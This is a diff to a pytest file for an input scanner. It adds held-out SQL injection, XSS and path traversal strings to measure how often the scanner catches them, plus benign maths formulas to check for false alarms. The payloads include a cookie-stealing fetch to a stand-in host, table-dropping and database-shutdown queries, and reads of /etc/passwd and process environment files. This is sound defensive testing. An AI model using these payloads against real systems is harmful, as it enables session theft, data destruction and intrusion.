@@ -96,6 +96,65 @@ BENIGN_FORMULAS = [
 ]  # fmt: skip
 
 
+# Written after the detectors' rules and measured once, never tuned on: the clean measure of
+# how they generalise beyond the corpora and the lists above.
+HELD_OUT = {
+    "sqli": [
+        "7 OR 8=8", "7) OR (8=8)--", "'OR 3>2--", "\" OR 3>2 #",
+        "abc' AND substr(version(),1,1)='8",
+        "42 AND (SELECT 42 FROM dual)=42", "99999 UNION SELECT table_name,2 FROM all_tables--",
+        "zz'); DROP TABLE logs; --", "1 AND IF(ASCII(SUBSTRING(DATABASE(),1,1))=115,SLEEP(2),0)",
+        "-3 OR EXISTS(SELECT 1 FROM accounts)", "5 ORDER BY 12 DESC--",
+        "'; UPDATE accounts SET balance=0 WHERE '1'='1",
+        "1 AND UPDATEXML(NULL,CONCAT(0x2e,USER()),NULL)", "\"; EXEC sp_executesql N'SELECT 1'--",
+        "2' UNION ALL SELECT NULL,NULL,NULL-- -", "me@x.com' OR 1=1 LIMIT 1 -- ",
+        "1 OR 1=1 INTO OUTFILE '/tmp/o'", "0' XOR SLEEP(3) XOR '0", "1 AND 3=3 ORDER BY 1",
+        "10; SELECT pg_sleep(3)--",
+        "' OR EXISTS(SELECT * FROM users WHERE name='admin' AND pass LIKE 'a%')--",
+        "1' AND (SELECT COUNT(*) FROM information_schema.columns)>1 AND '1'='1",
+        "-9 UNION SELECT @@hostname", "8 AND CHAR(65)=CHAR(65)", "x%27%20OR%20%27z%27%3D%27z",
+        "1%2F%2A%2A%2FOR%2F%2A%2A%2F1%3D1", "' oR 'q'='q'--", "1 || 'a'='a'", "')) OR 1=1 #",
+        "\" ) OR ( \"x\"=\"x", "4 GROUP BY 1,2 HAVING 3>1--", "1 HAVING 2>1 --",
+        "100 LIMIT 0,1 UNION SELECT 1--", "1' AND ROW(1,1)>(SELECT COUNT(*),1 FROM t)#",
+        "1 AND 2 BETWEEN 1 AND 3--", "1 OR 'a' IS NOT NULL", "''; SHUTDOWN WITH NOWAIT;--",
+        "1 WAITFOR TIME '23:59'", "admin'/**/OR/**/1=1#", "5 AND 0x61=0x61",
+    ],
+    "xss": [
+        "<sCrIpT>fetch('//e.example/'+document.cookie)</sCrIpT>",
+        "<img/src/onerror=top['al'+'ert'](1)>", "<svg><g onload=x></g></svg>",
+        "<a href=\"JaVaScRiPt:void(0)\">x</a>", "<iframe/src=\"javascript:x\">",
+        "<object data=//e.example/x.swf>", "<body onresize=x>", "<input onblur=x autofocus>",
+        "\"><svg onload=x>", "'><details ontoggle=x open>", "<p onmouseenter=x>hi</p>",
+        "<form action=\"javascript:x\"><input type=submit>", "<img src=\"x\" onerror=\"x\"/>",
+        "%253Cscript%253Ex%253C%252Fscript%253E", "&lt;img src=x onerror=x&gt;",
+        "<style>body{background:url(javascript:x)}</style>",
+        "<link rel=stylesheet href=data:text/css,x>",
+        "<meta http-equiv=\"refresh\" content=\"0; url=//e.example\">",
+        "<embed type=image/svg+xml src=//e.example/x.svg>", "<frameset onload=x>",
+    ],
+    "traversal": [
+        "../../../../../../etc/issue", "..%5c..%5c..%5cboot.ini", "%2e%2e%5c%2e%2e%5cwin.ini",
+        "....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts", "/etc/./passwd",
+        "%252e%252e%252f%252e%252e%252fetc%252fgroup", "..%c1%9c..%c1%9cwindows", "/proc/1/environ",
+        "file:///c:/windows/win.ini", "static/..%2f..%2f..%2fapp.py",
+    ],
+}  # fmt: skip
+HELD_OUT_BENIGN = [
+    "d/dt sin(t) = cos(t)", "f''(x) > 0 on (a, b)", "x_{n+1} = x_n - f(x_n)/f'(x_n)",
+    "A and B are independent iff P(A and B) = P(A)P(B)", "\"best fit\" line: y = 0.5x + 2",
+    "Kepler's third law: T^2 ~ a^3", "Planck's constant h = 6.626e-34 J s",
+    "speed of light c = 299792458 m/s", "Let's select the order of the model by BIC",
+    "Use a union-find structure for groups", "The limit of 1/n as n -> infinity is 0",
+    "delete the outliers where z > 3", "Drop rows with missing values", "insert 2 into the heap",
+    "a = b -- by definition", "i -- the imaginary unit", "C -- the speed of light",
+    "#define PI 3.14159", "p = 0.05 or less", "n >= 30 or the data is normal",
+    "x = 'a' or x = 'b'", "the user's 'favourite' formula", "it's between 0 and 1",
+    "null hypothesis: mu = 0", "order of operations: ( ) ^ * / + -",
+    "group by group, the sums are equal", "the 'true' value vs the \"measured\" value",
+    "x' denotes the derivative", "Jensen's inequality f(E[X]) <= E[f(X)]", "O(n log n) sorting",
+]  # fmt: skip
+
+
 def _kind(text: str) -> str | None:
     finding = scan_value(text, "query", plus_is_space=False)
     return finding.kind if finding else None
@@ -103,15 +162,16 @@ def _kind(text: str) -> str | None:
 
 @pytest.mark.parametrize("cls", sorted(VARIANTS))
 def test_hand_written_variants_are_mostly_caught(cls: str) -> None:
-    texts = VARIANTS[cls]
+    texts = VARIANTS[cls] + HELD_OUT[cls]
     missed = [text for text in texts if _kind(text) is None]
     # held out: the figure is the measure, a miss is not a defect to patch with a special rule
     assert len(missed) <= 0.05 * len(texts), (cls, missed)
 
 
 def test_benign_formula_texts_pass() -> None:
-    rejected = [t for t in BENIGN_FORMULAS if scan_value(t, "body-json", plus_is_space=False)]
-    assert len(rejected) <= 0.01 * len(BENIGN_FORMULAS), rejected
+    texts = BENIGN_FORMULAS + HELD_OUT_BENIGN
+    rejected = [t for t in texts if scan_value(t, "body-json", plus_is_space=False)]
+    assert len(rejected) <= 0.01 * len(texts), rejected
 
 
 @pytest.mark.parametrize(
